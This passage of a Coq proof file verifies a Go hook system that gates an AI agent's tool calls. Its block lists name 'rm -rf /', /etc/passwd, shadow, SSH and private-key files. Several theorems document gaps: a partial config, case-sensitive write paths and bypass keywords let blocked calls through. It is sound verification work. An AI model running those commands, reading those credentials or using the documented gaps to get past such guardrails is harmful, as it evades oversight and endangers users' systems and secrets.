    (bool_decide (RiskLevel i = "critical")),
    (bool_decide (Complexity i = "complex")); done.
Qed.

(** X17. The CEO gate blocks exactly a call of the tool Task without an
    agent type, with the reason that says so. Otherwise it warns exactly
    when the intent names agents and the given agent type is not among
    them, or the risk is critical; in every other case it passes. *)
Theorem ceo_gate_status (intent : option IntentAnalysis) (toolName agentType : string) :
  let res := ceoGateResult (CEOValidate intent toolName agentType) in
  (Status res = "block" <-> toolName = "Task" /\ agentType = "") /\
  (Status res = "block" -> Reason res = "Task requires subagent_type") /\
  (Status res = "warn" <->
     ~ (toolName = "Task" /\ agentType = "") /\
     exists i, intent = Some i /\
       ((RequiredAgents i <> [] /\ agentType <> "" /\
         agentType ∉ RequiredAgents i) \/ RiskLevel i = "critical")) /\
  (Status res <> "block" -> Status res <> "warn" -> Status res = "pass").
Proof.
  intros res. unfold res.
  destruct (ceoGateResult_status (CEOValidate intent toolName agentType)) as [-> ->].
  destruct (CEOValidate_fields intent toolName agentType) as (-> & -> & ->).
  destruct (bool_decide (toolName = "Task") && bool_decide (agentType = ""))%bool
    eqn:Eno; cbn [negb].
  - apply andb_true_iff in Eno as [E1%bool_decide_eq_true E2%bool_decide_eq_true].
    split; [tauto|]. split; [done|]. split; [|by intros []].
    split; [discriminate|]. intros [H _]. by destruct H.
  - assert (Hn : ~ (toolName = "Task" /\ agentType = "")).
    { intros [E1 E2]. by rewrite !bool_decide_eq_true_2 in Eno. }
    destruct intent as [i|].
    + assert (Hm : agentMismatch i agentType = true <->
                RequiredAgents i <> [] /\ agentType <> "" /\
                agentType ∉ RequiredAgents i).
      { unfold agentMismatch.
        rewrite !andb_true_iff, !negb_true_iff, !bool_decide_eq_false.
        rewrite <- not_true_iff_false, containsString_true. tauto. }
      destruct (agentMismatch i agentType) eqn:Em;
        destruct (bool_decide_reflect (RiskLevel i = "critical")) as [Hc|Hc];
        cbn [app]; (split; [split; [done|by intros ?]|]); (split; [done|]);
        (split; [|done]).
      * split; [|done]. intros _. split; [done|]. exists i. split; [done|].
        left. by apply Hm.
      * split; [|done]. intros _. split; [done|]. exists i. split; [done|].
        left. by apply Hm.
      * split; [|done]. intros _. split; [done|]. exists i. split; [done|].
        by right.
      * split; [done|]. intros (_ & i' & [= <-] & [H|H]); [|done].
        apply Hm in H. done.
    + split; [split; [done|by intros ?]|]. split; [done|]. split; [|done].
      split; [done|]. by intros (_ & i & ? & _).
Qed.

(** *** The security gate *)

Lemma aegisGateResult_status (aegis : AegisVerification) :
  Status (aegisGateResult aegis) = if Passed aegis then "pass" else "block".
Proof.
  unfold aegisGateResult.
  destruct (Passed aegis), (Recommendations aegis); done.
Qed.

Lemma AegisVerify_fields rfc3339 intent toolName toolInput :
  let v := AegisVerify rfc3339 intent toolName toolInput in
  let b := bashViolation toolName toolInput in
  let p := pathViolation toolName toolInput in
  let e := editViolation toolName toolInput in
  Passed v = negb (b || p || e) /\
  ThreatLevel v = (if e then "medium" else if (b || p)%bool then "high" else "none") /\
  SecurityScore v = (if e then 0.3 else if (b || p)%bool then 0.0 else 1.0)%Q /\
  ViolationsFound v =
    ((if b then ["Dangerous command pattern detected"] else [])
     ++ (if p then [("Sensitive file access: "
                     ++ default "" (asString toolInput "file_path"))%string] else [])
     ++ (if e then ["Suspicious code removal pattern - verify intent"] else []))%list /\
  Recommendations v = [] /\
  MemoryProvenance v = "chain_verification:" ++ rfc3339.
Proof.
  unfold AegisVerify, bashViolation, pathViolation, editViolation.
  destruct (bool_decide (toolName = "Bash")), (bool_decide (toolName = "Read")),
    (bool_decide (toolName = "Write")), (bool_decide (toolName = "Edit"));
    cbn [orb andb];
    destruct (asString toolInput "command") as [cmd|];
    try destruct (isDangerousCommand cmd);
    destruct (asString toolInput "file_path") as [path|];
    try destruct (isSensitivePath path);
    try destruct (isProblematicEdit _ _); done.
Qed.

(** X18. The Security gate blocks exactly when one of its three checks
    fires: a shell command that holds a dangerous pattern, a sensitive
    path given to Read, Write or Edit, or a problematic edit. A call of
    any other tool passes with threat none and score 1, whatever its
    input. *)
Theorem aegis_gate_blocks_iff (rfc3339 : string) (intent : option IntentAnalysis)
    (toolName : string) (toolInput : gmap string Any) :
  let v := AegisVerify rfc3339 intent toolName toolInput in
  (Status (aegisGateResult v) = "block" <->
     (toolName = "Bash" /\
      exists cmd, asString toolInput "command" = Some cmd /\
                  isDangerousCommand cmd = true) \/
     ((toolName = "Read" \/ toolName = "Write" \/ toolName = "Edit") /\
      exists path, asString toolInput "file_path" = Some path /\
                   isSensitivePath path = true) \/
     (toolName = "Edit" /\
      isProblematicEdit (default "" (asString toolInput "old_string"))
                        (default "" (asString toolInput "new_string")) = true)) /\
  (Status (aegisGateResult v) <> "block" ->
     Status (aegisGateResult v) = "pass" /\ Passed v = true /\
     ThreatLevel v = "none" /\ SecurityScore v = 1.0%Q /\ ViolationsFound v = []) /\
  (toolName <> "Bash" -> toolName <> "Read" -> toolName <> "Write" ->
   toolName <> "Edit" -> Status (aegisGateResult v) = "pass").
Proof.
  intros v. unfold v. rewrite aegisGateResult_status.
  destruct (AegisVerify_fields rfc3339 intent toolName toolInput)
    as (-> & -> & -> & -> & _).
  assert (Hb : bashViolation toolName toolInput = true <->
            toolName = "Bash" /\
            exists cmd, asString toolInput "command" = Some cmd /\
                        isDangerousCommand cmd = true).
  { unfold bashViolation. rewrite andb_true_iff, bool_decide_eq_true.
    destruct (asString toolInput "command") as [cmd|]; naive_solver. }
  assert (Hp : pathViolation toolName toolInput = true <->
            (toolName = "Read" \/ toolName = "Write" \/ toolName = "Edit") /\
            exists path, asString toolInput "file_path" = Some path /\
                         isSensitivePath path = true).
  { unfold pathViolation.
    rewrite andb_true_iff, !orb_true_iff, !bool_decide_eq_true.
    destruct (asString toolInput "file_path") as [path|]; naive_solver. }
  assert (He : editViolation toolName toolInput = true <->
            toolName = "Edit" /\
            isProblematicEdit (default "" (asString toolInput "old_string"))
                              (default "" (asString toolInput "new_string")) = true).
  { unfold editViolation. by rewrite andb_true_iff, bool_decide_eq_true. }
  rewrite <- Hb, <- Hp, <- He.
  destruct (bashViolation toolName toolInput) eqn:Eb,
    (pathViolation toolName toolInput) eqn:Ep,
    (editViolation toolName toolInput) eqn:Ee; cbn [negb orb app];
    (split; [intuition discriminate|]); (split; [done|]);
    intros H1 H2 H3 H4;
    try (destruct Hb as [Hb _]; specialize (Hb eq_refl); naive_solver);
    try (destruct Hp as [Hp _]; specialize (Hp eq_refl); naive_solver);
    try (destruct He as [He _]; specialize (He eq_refl); naive_solver); done.
Qed.

(** X19. A problematic edit sets the threat to medium and the score to
    0.3 after the check of the path has set them to high and 0: an Edit
    of a sensitive file that is also a problematic edit is reported as a
    medium threat, with both violations listed and the path as the reason
    of the block. *)
Theorem problematic_edit_lowers_threat (rfc3339 : string)
    (intent : option IntentAnalysis) (toolInput : gmap string Any) (path : string) :
  asString toolInput "file_path" = Some path ->
  isSensitivePath path = true ->
  isProblematicEdit (default "" (asString toolInput "old_string"))
                    (default "" (asString toolInput "new_string")) = true ->
  let w := AegisVerify rfc3339 intent "Write" toolInput in
  let v := AegisVerify rfc3339 intent "Edit" toolInput in
  (ThreatLevel w = "high" /\ SecurityScore w = 0.0%Q) /\
  (ThreatLevel v = "medium" /\ SecurityScore v = 0.3%Q /\ Passed v = false) /\
  ViolationsFound v = ["Sensitive file access: " ++ path;
                       "Suspicious code removal pattern - verify intent"] /\
  Reason (aegisGateResult v) = "Sensitive file access: " ++ path.
Proof.
  intros Hpath Hs He w v.
  assert (Hv : ViolationsFound v
               = ["Sensitive file access: " ++ path;
                  "Suspicious code removal pattern - verify intent"] /\
               ThreatLevel v = "medium" /\ SecurityScore v = 0.3%Q /\
               Passed v = false /\ Recommendations v = []).
  { unfold v.
    destruct (AegisVerify_fields rfc3339 intent "Edit" toolInput)
      as (-> & -> & -> & -> & -> & _).
    unfold bashViolation, pathViolation, editViolation.
    rewrite Hpath, Hs, He. by vm_compute. }
  destruct Hv as (Hviol & Ht & Hsc & Hpa & Hrec).
  split; [|split; [done|split; [done|]]].
  - unfold w.
    destruct (AegisVerify_fields rfc3339 intent "Write" toolInput)
      as (_ & -> & -> & _).
    unfold bashViolation, pathViolation, editViolation.
    rewrite Hpath, Hs. by vm_compute.
  - unfold aegisGateResult. rewrite Hpa, Hviol, Hrec. done.
Qed.

Lemma problematic_edit_lowers_threat_witness :
  let toolInput : gmap string Any :=
    <["file_path" := AnyString "/home/u/.ssh/config"]>
      (<["old_string" := AnyString "Host x # TODO"]>
         (<["new_string" := AnyString "Host x"]> ∅)) in
  let w := AegisVerify "t" None "Write" toolInput in
  let v := AegisVerify "t" None "Edit" toolInput in
  (ThreatLevel w = "high" /\ SecurityScore w = 0.0%Q) /\
  (ThreatLevel v = "medium" /\ SecurityScore v = 0.3%Q /\ Passed v = false) /\
  ViolationsFound v = ["Sensitive file access: " ++ "/home/u/.ssh/config";
                       "Suspicious code removal pattern - verify intent"] /\
  Reason (aegisGateResult v) = "Sensitive file access: " ++ "/home/u/.ssh/config".
Proof.
  apply (problematic_edit_lowers_threat "t" None
           (<["file_path" := AnyString "/home/u/.ssh/config"]>
              (<["old_string" := AnyString "Host x # TODO"]>
                 (<["new_string" := AnyString "Host x"]> ∅)))
           "/home/u/.ssh/config"); vm_compute; reflexivity.
Defined.

(** *** The research gate *)

Lemma find_None_existsb {A : Type} (f : A -> bool) (l : list A) :
  find f l = None <-> existsb f l = false.
Proof.
  induction l as [|a l IH]; simpl; [done|].
  destruct (f a); simpl; [split; discriminate | done].
Qed.

Lemma buildSearchQuery_nonempty year intentType prompt :
  buildSearchQuery year intentType prompt <> "".
Proof. unfold buildSearchQuery. repeat case_bool_decide; discriminate. Qed.

(** X20. The Research gate blocks exactly when the prompt holds no bypass
    keyword, the intent requires research, and the session has none. The
    block names the intent and proposes a web search with the query built
    for it. A prompt with a bypass keyword always passes, and so does a
    session with research done. *)
Theorem research_gate_blocks_iff (year : string) (i : IntentAnalysis)
    (researchDone : bool) (prompt : string) :
  let res := researchGateResult (Some i)
               (ResearchCheck year (Some i) researchDone prompt) in
  (Status res = "block" <->
     containsAny (ToLower prompt) bypassPatterns = false /\
     RequiresResearch i = true /\ researchDone = false) /\
  (Status res = "block" ->
     Reason res = "TABULA_RASA: Research required before " ++ IntentType i /\
     NextAction res
       = "WebSearch: " ++ buildSearchQuery year (IntentType i) prompt) /\
  (Status res <> "block" -> Status res = "pass").
Proof.
  intros res. unfold res, researchGateResult, ResearchCheck, containsAny.
  destruct (find (Contains (ToLower prompt)) bypassPatterns) as [p|] eqn:Ef.
  - cbn [Bypass Status].
    assert (existsb (Contains (ToLower prompt)) bypassPatterns <> false) as Hne.
    { intros H%find_None_existsb. congruence. }
    split; [split; [done | by intros [? _]]|]. split; done.
  - apply find_None_existsb in Ef. rewrite Ef.
    destruct (RequiresResearch i) eqn:Er, researchDone;
      cbn [andb negb Bypass Done SuggestedQuery Status Reason NextAction];
      rewrite ?Er; cbn [andb negb];
      try (split; [split; [done | by intros (_ & ? & ?)]|]; split; done).
    rewrite (bool_decide_eq_false_2 _ (buildSearchQuery_nonempty _ _ _)).
    cbn [negb Status Reason NextAction]. split; [by split|]. split; done.
Qed.

(** *** Results are only appended *)

(** X21. Whatever results are added to a chain state, in whatever order,
    the results recorded before stay in place, the new ones follow with
    their time stamps, and the chain is blocked exactly when it was
    blocked before or one of the added results is a block: nothing
    unblocks a chain. *)
Theorem AddResult_only_appends (c : ChainState)
    (added : list (Z * VerificationResult)) :
  let c' := foldl (fun c nr => AddResult nr.1 c nr.2) c added in
  Results c' =
    (Results c ++
     ((fun nr => mkResult (Gate nr.2) (Status nr.2) (Reason nr.2) (Context nr.2)
                          nr.1 (NextAction nr.2)) <$> added))%list /\
  IsBlocked c' =
    (IsBlocked c || existsb (fun nr => bool_decide (Status nr.2 = "block")) added)%bool /\
  (IsBlocked c' = false -> FinalStatus c' = FinalStatus c).
Proof.
  revert c. induction added as [|[now r] l IH]; intros c; cbn [foldl].
  - simpl. rewrite app_nil_r, orb_false_r. done.
  - destruct (IH (AddResult now c r)) as (H1 & H2 & H3). cbn [fst snd] in *.
    split; [|split].
    + rewrite H1. unfold AddResult. cbn [Results fmap list_fmap fst snd].
      by rewrite <- app_assoc.
    + rewrite H2, IsBlocked_AddResult. cbn [existsb snd].
      destruct (bool_decide (Status r = "block")), (IsBlocked c); done.
    + intros Hf. rewrite H3 by done. rewrite H2 in Hf.
      apply orb_false_iff in Hf as [Hf _].
      rewrite IsBlocked_AddResult in Hf. apply orb_false_iff in Hf as [Hf _].
      unfold AddResult. cbn [FinalStatus Status]. by rewrite Hf.
Qed.

(** *** The agents of a prompt *)

(** X22. The agents that [extractAgents] returns are those whose keyword
    occurs in the prompt, and in whatever order the runtime enumerates the
    keyword map the same agents come out, up to their order. *)
Theorem extractAgents_any_order (table : list (string * string)) (prompt : string) :
  table ≡ₚ agentKeywords ->
  extractAgentsIn table prompt ≡ₚ extractAgents prompt /\
  forall agent, agent ∈ extractAgentsIn table prompt <->
    exists keyword, (keyword, agent) ∈ agentKeywords /\
                    Contains prompt keyword = true.
Proof.
  intros Hp. split; [by apply extractAgentsIn_Permutation|].
  intros agent. unfold extractAgentsIn.
  rewrite list_elem_of_fmap. setoid_rewrite list_elem_of_filter.
  setoid_rewrite Hp. split.
  - intros ([k a] & -> & Hc & Hin). by exists k.
  - intros (k & Hin & Hc). by exists (k, agent).
Qed.

Lemma extractAgents_any_order_witness :
  extractAgentsIn (rev agentKeywords) "plan the backend test"
    ≡ₚ extractAgents "plan the backend test" /\
  forall agent, agent ∈ extractAgentsIn (rev agentKeywords) "plan the backend test" <->
    exists keyword, (keyword, agent) ∈ agentKeywords /\
                    Contains "plan the backend test" keyword = true.
Proof.
  apply (extractAgents_any_order (rev agentKeywords) "plan the backend test").
  symmetry. apply Permutation_rev.
Defined.

(** *** The decision of the chain gate *)

Lemma firstBlock_last (l : list VerificationResult) :
  (forall k res, l !! k = Some res -> Status res = "block" -> length l = S k) ->
  firstBlock l =
    match last l with
    | Some res => if bool_decide (Status res = "block")
                  then Gate res ++ ": " ++ Reason res else ""
    | None => ""
    end.
Proof.
  induction l as [|r l IH]; intros H; [done|]. cbn [firstBlock].
  case_bool_decide as Hb.
  - pose proof (H O r eq_refl Hb) as Hl. destruct l; [|done].
    simpl. by rewrite bool_decide_eq_true_2.
  - destruct l as [|r' l].
    + simpl. by rewrite bool_decide_eq_false_2.
    + rewrite IH; [done|]. intros k res Hk Hs.
      pose proof (H (S k) res Hk Hs) as Hl. simpl in *. lia.
Qed.

Lemma existsb_status (st : string) (l : list VerificationResult) :
  existsb (fun r => bool_decide (Status r = st)) l = true <->
  exists res, res ∈ l /\ Status res = st.
Proof.
  rewrite existsb_exists. setoid_rewrite <- list_elem_of_In.
  by setoid_rewrite bool_decide_eq_true.
Qed.

(** X23. In hook mode the chain gate ends in one of three ways. It
    writes a deny decision when the last result of the chain is a block,
    with the gate and the reason of that result as the reason of the
    decision. It writes an allow decision with the fixed reason when no
    result is a block and one is a warning. It exits silently when no
    result is a block or a warning. It never writes an ask decision and
    never changes the tool input. Without the hook flag it prints the help
    and runs no gate. *)
Theorem runChainGate_decision (clk : Clock) (cacheDir : string) (debug : bool)
    (input : HookInput) (sessionID : string) (researchDone : bool) :
  let runner := RunFull clk (NewRunner cacheDir debug sessionID)
                        (getPromptFromInput input) (ToolName input)
                        (ToolInput input) researchDone in
  let st := state runner in
  let out := runChainGate clk cacheDir true debug input sessionID researchDone in
  runChainGate clk cacheDir false debug input sessionID researchDone = PrintHelp /\
  ((exists res, last (Results st) = Some res /\ Status res = "block" /\
      out = Output (specificResponse
                      (mkSpecific "PreToolUse" "deny"
                                  (Gate res ++ ": " ++ Reason res) ∅
                                  (ToTOON clk runner)))) \/
   ((forall res, res ∈ Results st -> Status res <> "block") /\
    (exists res, res ∈ Results st /\ Status res = "warn") /\
    out = Output (specificResponse
                    (mkSpecific "PreToolUse" "allow" "Chain passed with warnings"
                                ∅ (ToTOON clk runner)))) \/
   ((forall res, res ∈ Results st ->
       Status res <> "block" /\ Status res <> "warn") /\
    out = ExitSilent)).
Proof.
  intros runner st out. split; [done|].
  assert (Hsc :
    (forall k res, Results st !! k = Some res -> Status res = "block" ->
       length (Results st) = S k /\ FinalStatus st = "blocked") /\
    ((forall res, res ∈ Results st -> Status res <> "block") ->
       length (Results st) = 4%nat /\ FinalStatus st = "approved")).
  { cut (Gate <$> Results st = take (length (Results st)) gateOrder /\
         (1 <= length (Results st) <= 4)%nat /\
         (forall k res, Results st !! k = Some res -> Status res = "block" ->
            length (Results st) = S k /\ FinalStatus st = "blocked") /\
         ((forall res, res ∈ Results st -> Status res <> "block") ->
            length (Results st) = 4%nat /\ FinalStatus st = "approved")).
    { intros (_ & _ & ? & ?). done. }
    eapply (short_circuit (NewRunner cacheDir debug sessionID)).
    - reflexivity.
    - reflexivity.
    - apply (runIntentGate_step clk _ (getPromptFromInput input)).
    - apply (runCEOGate_step clk _ (ToolName input)
               (default "" (asString (ToolInput input) "subagent_type"))).
    - apply (runAegisGate_step clk _ (ToolName input) (ToolInput input)).
    - apply (runResearchGate_step clk _ researchDone (getPromptFromInput input)).
    - reflexivity. }
  destruct Hsc as [Hblock Hnone].
  assert (Hout : out =
    if IsBlocked st then
      Output (specificResponse
                (mkSpecific "PreToolUse" "deny" (GetBlockReason st) ∅
                            (ToTOON clk runner)))
    else if existsb (fun r => bool_decide (Status r = "warn")) (Results st)
    then Output (specificResponse
                   (mkSpecific "PreToolUse" "allow" "Chain passed with warnings"
                               ∅ (ToTOON clk runner)))
    else ExitSilent) by reflexivity.
  rewrite Hout. clear Hout out.
  destruct (existsb (fun r => bool_decide (Status r = "block")) (Results st))
    eqn:Eb.
  - apply existsb_status in Eb as (res & [k Hk]%list_elem_of_lookup & Hs).
    destruct (Hblock k res Hk Hs) as [Hlen Hfin].
    left. exists res.
    assert (Hlast : last (Results st) = Some res).
    { rewrite last_lookup, Hlen. done. }
    split; [done|]. split; [done|].
    unfold IsBlocked. rewrite Hfin, bool_decide_eq_true_2 by done.
    unfold GetBlockReason. rewrite firstBlock_last.
    + by rewrite Hlast, bool_decide_eq_true_2.
    + intros k' res' Hk' Hs'. by destruct (Hblock k' res' Hk' Hs').
  - assert (Hnb : forall res, res ∈ Results st -> Status res <> "block").
    { intros res Hin Hs.
      assert (existsb (fun r => bool_decide (Status r = "block")) (Results st)
              = true) as E by (apply existsb_status; eauto).
      congruence. }
    destruct (Hnone Hnb) as [_ Hfin].
    unfold IsBlocked. rewrite Hfin, bool_decide_eq_false_2 by discriminate.
    right.
    destruct (existsb (fun r => bool_decide (Status r = "warn")) (Results st))
      eqn:Ew.
    + left. apply existsb_status in Ew. done.
    + right. split; [|done]. intros res Hin. split; [by apply Hnb|].
      intros Hs.
      assert (existsb (fun r => bool_decide (Status r = "warn")) (Results st)
              = true) as E by (apply existsb_status; eauto).
      congruence.
Qed.

End ChainTheory.

Module ConfigTheory.
Import GoStrings Config.

(** *** Loading the policy file *)

(** When the file cannot be read or parsed the defaults are returned. *)
Lemma load_failure_defaults (file : FileRead) :
  file = ReadFailed \/ file = ParseFailed ->
  loadGatesConfigFromFile file = getDefaultGatesConfig.
Proof. by intros [-> | ->]. Qed.

(** The three lists that [mergeGatesDefaults] fills in. *)
Lemma mergeGatesDefaults_lists (cfg : GatesConfig) :
  let m := mergeGatesDefaults cfg in
  ReadBlockedPaths (Read m) =
    (if isEmpty (ReadBlockedPaths (Read cfg))
     then ReadBlockedPaths (Read getDefaultGatesConfig)
     else ReadBlockedPaths (Read cfg)) /\
  BashBlockedCommands (Bash m) =
    (if isEmpty (BashBlockedCommands (Bash cfg))
     then BashBlockedCommands (Bash getDefaultGatesConfig)
     else BashBlockedCommands (Bash cfg)) /\
  WriteBlockedPaths (Write m) =
    (if isEmpty (WriteBlockedPaths (Write cfg))
     then WriteBlockedPaths (Write getDefaultGatesConfig)
     else WriteBlockedPaths (Write cfg)).
Proof.
  destruct cfg as [? ? ? [? rp ? ? ?] [? bc ? ?] [? wp ? ?] ? ? ? ? ?].
  destruct rp, bc, wp; repeat split.
Qed.

(** Every other field is the one of the file. *)
Lemma mergeGatesDefaults_rest (cfg : GatesConfig) :
  let m := mergeGatesDefaults cfg in
  ReadEnabled (Read m) = ReadEnabled (Read cfg) /\
  ReadBlockedExtensions (Read m) = ReadBlockedExtensions (Read cfg) /\
  ReadWarnExtensions (Read m) = ReadWarnExtensions (Read cfg) /\
  ReadWarnPatterns (Read m) = ReadWarnPatterns (Read cfg) /\
  BashEnabled (Bash m) = BashEnabled (Bash cfg) /\
  BashBlockedPatterns (Bash m) = BashBlockedPatterns (Bash cfg) /\
  BashWarnCommands (Bash m) = BashWarnCommands (Bash cfg) /\
  WriteEnabled (Write m) = WriteEnabled (Write cfg) /\
  WriteProtectedFiles (Write m) = WriteProtectedFiles (Write cfg) /\
  WriteSecretPatterns (Write m) = WriteSecretPatterns (Write cfg) /\
  Enforcer m = Enforcer cfg /\ Intent m = Intent cfg /\
  Research m = Research cfg /\ Context m = Context cfg /\
  Quality m = Quality cfg.
Proof.
  destruct cfg as [? ? ? [? rp ? ? ?] [? bc ? ?] [? wp ? ?] ? ? ? ? ?].
  destruct rp, bc, wp; repeat split.
Qed.

(** C8, evaluated on the file [{"read": {"enabled": true}}]. The file
    parses; the blocked read paths are filled in from the defaults, but
    the blocked extensions stay empty and the shell section stays
    disabled, so a .pem file and "rm -rf /" pass the checks that the
    defaults block. *)
Theorem partial_config_weaker_than_defaults :
  let cfg := loadGatesConfigFromFile (Parsed readEnabledOnly) in
  ReadBlockedPaths (Read cfg) = ReadBlockedPaths (Read getDefaultGatesConfig) /\
  ReadBlockedExtensions (Read cfg) = [] /\
  ReadBlockedExtensions (Read getDefaultGatesConfig)
    = [".pem"; ".key"; ".p12"; ".pfx"] /\
  IsBlockedExtension getDefaultGatesConfig "/home/u/server.pem" = true /\
  IsBlockedExtension cfg "/home/u/server.pem" = false /\
  EnforcerChain (Enforcer cfg) = [] /\
  EnforcerChain (Enforcer getDefaultGatesConfig) = ["read"; "bash"; "write"] /\
  IsBlockedCommand getDefaultGatesConfig "rm -rf /" = true /\
  IsBlockedCommand cfg "rm -rf /" = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Import StringsTheory.

(** X24. Whatever the file holds, and also when it cannot be read or
    parsed, the configuration that is loaded has a non-empty list of
    blocked read paths, of blocked commands and of blocked write paths,
    and merging the defaults into it once more changes nothing. *)
Theorem loaded_block_lists_not_empty (file : FileRead) :
  let cfg := loadGatesConfigFromFile file in
  ReadBlockedPaths (Read cfg) <> [] /\
  BashBlockedCommands (Bash cfg) <> [] /\
  WriteBlockedPaths (Write cfg) <> [] /\
  mergeGatesDefaults cfg = cfg.
Proof.
  destruct file as [| |cfg]; cbn [loadGatesConfigFromFile];
    [by repeat split..|].
  destruct cfg as [? ? ? [? rp ? ? ?] [? bc ? ?] [? wp ? ?] ? ? ? ? ?].
  destruct rp, bc, wp; by repeat split.
Qed.

(** X25. A forced reload reads the file. A load after it returns the
    configuration of that reload, without reading the file again and
    whatever the file holds by then, as long as one of its two readings
    of the clock is less than [CacheTTL] after the reload; when both are
    later it reads the file again and stamps the cache with the new
    time. *)
Theorem LoadGatesConfig_within_ttl (CacheTTL a1 a2 a3 b1 b2 b3 : Z)
    (f1 f2 : FileRead) (c : Cache) :
  let r1 := ReloadGatesConfig CacheTTL a1 a2 a3 f1 c in
  let r2 := LoadGatesConfig CacheTTL b1 b2 b3 f2 r1.2 in
  r1 = (loadGatesConfigFromFile f1,
        mkCache (Some (loadGatesConfigFromFile f1)) a3) /\
  (since b1 a3 < CacheTTL \/ since b2 a3 < CacheTTL -> r2 = r1) /\
  (CacheTTL <= since b1 a3 -> CacheTTL <= since b2 a3 ->
     r2 = (loadGatesConfigFromFile f2,
           mkCache (Some (loadGatesConfigFromFile f2)) b3)).
Proof.
  intros r1 r2.
  assert (H1 : r1 = (loadGatesConfigFromFile f1,
                     mkCache (Some (loadGatesConfigFromFile f1)) a3)) by done.
  split; [done|]. unfold r2. rewrite H1.
  unfold LoadGatesConfig, cached. cbn [snd gatesConfig gatesConfigTime].
  split.
  - intros [H|H].
    + rewrite (proj2 (Z.ltb_lt _ _) H). done.
    + destruct (since b1 a3 <? CacheTTL); [done|].
      rewrite (proj2 (Z.ltb_lt _ _) H). done.
  - intros Hb1 Hb2.
    rewrite (proj2 (Z.ltb_ge _ _) Hb1), (proj2 (Z.ltb_ge _ _) Hb2). done.
Qed.

Lemma LoadGatesConfig_within_ttl_witness :
  LoadGatesConfig 10 5 5 5 ParseFailed
    (ReloadGatesConfig 10 1 2 3 (Parsed readEnabledOnly) (mkCache None 0)).2
  = ReloadGatesConfig 10 1 2 3 (Parsed readEnabledOnly) (mkCache None 0).
Proof.
  apply (proj1 (proj2 (LoadGatesConfig_within_ttl 10 1 2 3 5 5 5
                         (Parsed readEnabledOnly) ParseFailed (mkCache None 0)))).
  left. vm_compute. reflexivity.
Defined.

Lemma existsb_ext_in {A : Type} (f g : A -> bool) (l : list A) :
  (forall x, f x = g x) -> existsb f l = existsb g l.
Proof. intros H. induction l as [|a l IH]; simpl; [done|]. by rewrite H, IH. Qed.

(** X26. The checks of read paths, extensions, warnings and commands
    lower the path or command first, so they do not look at its case. The
    check of write paths compares the path as it is, and only its
    beginning: a path is blocked exactly when the write section is enabled
    and the path starts with one of the listed entries. With the defaults
    "/etc/passwd" is blocked for writing, but neither "/ETC/passwd" nor a
    key file below a home directory is. *)
Theorem path_checks_case_and_prefix (cfg : GatesConfig) (path : string) :
  IsBlockedPath cfg (ToLower path) = IsBlockedPath cfg path /\
  IsBlockedExtension cfg (ToLower path) = IsBlockedExtension cfg path /\
  IsWarnPath cfg (ToLower path) = IsWarnPath cfg path /\
  IsBlockedCommand cfg (ToLower path) = IsBlockedCommand cfg path /\
  (IsBlockedWritePath cfg path = true <->
     WriteEnabled (Write cfg) = true /\
     exists blocked rest,
       blocked ∈ WriteBlockedPaths (Write cfg) /\ path = blocked ++ rest) /\
  IsBlockedWritePath getDefaultGatesConfig "/etc/passwd" = true /\
  IsBlockedWritePath getDefaultGatesConfig "/ETC/passwd" = false /\
  IsBlockedWritePath getDefaultGatesConfig "/home/u/.ssh/authorized_keys" = false /\
  IsBlockedPath getDefaultGatesConfig "/ETC/Shadow" = true.
Proof.
  unfold IsBlockedPath, IsBlockedExtension, IsWarnPath, IsBlockedCommand.
  rewrite !ToLower_idem.
  split; [done|]. split; [done|]. split; [done|]. split; [done|].
  split; [|by vm_compute].
  unfold IsBlockedWritePath, HasPrefix.
  destruct (WriteEnabled (Write cfg)); cbn [negb].
  - rewrite existsb_exists. setoid_rewrite <- list_elem_of_In.
    setoid_rewrite prefix_true. naive_solver.
  - split; [done | by intros [? _]].
Qed.

End ConfigTheory.

Module GatesTheory.
Import GoStrings Chain Gates StringsTheory.
Local Open Scope list_scope.

(** *** intent_helpers.go *)

Lemma existsb_eq_item (slice : list string) (item : string) :
  existsb (fun s => bool_decide (s = item)) slice = true <-> item ∈ slice.
Proof.
  rewrite existsb_exists. setoid_rewrite <- list_elem_of_In.
  setoid_rewrite bool_decide_eq_true. naive_solver.
Qed.

(** X27. [appendUnique] returns the list as it is when the item is in
    it, and the list with the item at its end otherwise. So the result
    holds the elements of the list and the item, a list without
    duplicates stays without duplicates, and adding the item a second
    time changes nothing. *)
Theorem appendUnique_adds_once (slice : list string) (item : string) :
  (item ∈ slice -> appendUnique slice item = slice) /\
  (item ∉ slice -> appendUnique slice item = slice ++ [item]) /\
  (forall x, x ∈ appendUnique slice item <-> x ∈ slice \/ x = item) /\
  (NoDup slice -> NoDup (appendUnique slice item)) /\
  appendUnique (appendUnique slice item) item = appendUnique slice item.
Proof.
  unfold appendUnique.
  destruct (existsb (fun s => bool_decide (s = item)) slice) eqn:E.
  - pose proof (proj1 (existsb_eq_item slice item) E) as Hin.
    rewrite E. split; [done|]. split; [done|]. split; [|done].
    intros x. split; [by left|]. by intros [?| ->].
  - assert (Hnin : item ∉ slice).
    { intros Hin%existsb_eq_item. congruence. }
    split; [done|]. split; [done|]. split; [|split].
    + intros x. rewrite elem_of_app, list_elem_of_singleton. done.
    + intros Hnd. apply NoDup_app. split; [done|].
      split; [|apply NoDup_singleton].
      by intros x Hx ->%list_elem_of_singleton.
    + rewrite (proj2 (existsb_eq_item (slice ++ [item]) item)); [done|].
      apply elem_of_app. right. by left.
Qed.

(** X28. [isStatusQuery] holds exactly when the prompt holds the word
    "status": the other four triggers hold that word themselves, so they
    match nothing that the first does not. The match is case-sensitive. *)
Theorem isStatusQuery_one_trigger (prompt : string) :
  isStatusQuery prompt = Contains prompt "status" /\
  isStatusQuery "Status?" = false.
Proof.
  split; [|by vm_compute].
  unfold isStatusQuery, statusTriggers. cbn [existsb].
  destruct (Contains prompt "status") eqn:E; [done|]. cbn [orb].
  assert (H : forall t, Contains t "status" = true -> Contains prompt t = false).
  { intros t Ht. apply not_true_is_false. intros Hp.
    pose proof (Contains_trans _ _ _ Hp Ht). congruence. }
  rewrite !H by (by vm_compute). done.
Qed.

(** *** failure.go *)

(** X29. The failure gate has a suggestion only for the tools Bash,
    Write, Edit and Read, and only for a non-empty error message; Write
    and Edit share their suggestions, and the case of the message does
    not matter. The message is the field "error" of the response when
    that is a string, also when it is the empty string; the field
    "stderr" is read only when "error" is missing or not a string. *)
Theorem failure_suggestion_conditions (tool : string) (resp : gmap string Any) :
  let err := extractErrorMessage resp in
  (detectFailurePattern tool err <> "" ->
     (tool = "Bash" \/ tool = "Write" \/ tool = "Edit" \/ tool = "Read") /\
